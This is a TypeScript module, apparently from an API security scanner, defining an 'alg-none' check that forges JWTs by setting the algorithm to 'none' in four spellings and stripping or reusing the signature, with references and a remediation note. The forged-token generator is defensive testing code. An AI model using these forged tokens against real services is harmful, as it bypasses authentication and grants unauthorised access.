import { forgeryAttack } from './forgery-attack.ts'
import { signingInput } from './jwt.ts'

export const algNone = forgeryAttack({
  id: 'alg-none',
  number: 23,
  severity: 'critical',
  cwe: 347,
  title: 'A token that says it needs no signature is taken',
  references: ['OWASP API2:2023', 'RFC 8725 section 3.1', 'ASVS 5.0 9.1.2'],
  tokens: 5,
  oracle: 'The real claims under `alg: none`, in any spelling, are answered as the real token is.',
  fix: 'Verify with a fixed list of algorithms; what the token itself says of its algorithm may only agree with it.',
  forge: ({ jwt }) => [
    ...['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
      told: `with alg ${alg} and no signature`,
      token: `${signingInput({ ...jwt.header, alg }, jwt.claims)}.`,
    })),
    // Some parsers want a third part that is not empty.
    {
      told: 'with alg none and the old signature',
      token: `${signingInput({ ...jwt.header, alg: 'none' }, jwt.claims)}.${jwt.signature.toString('base64url')}`,
    },
  ],
})
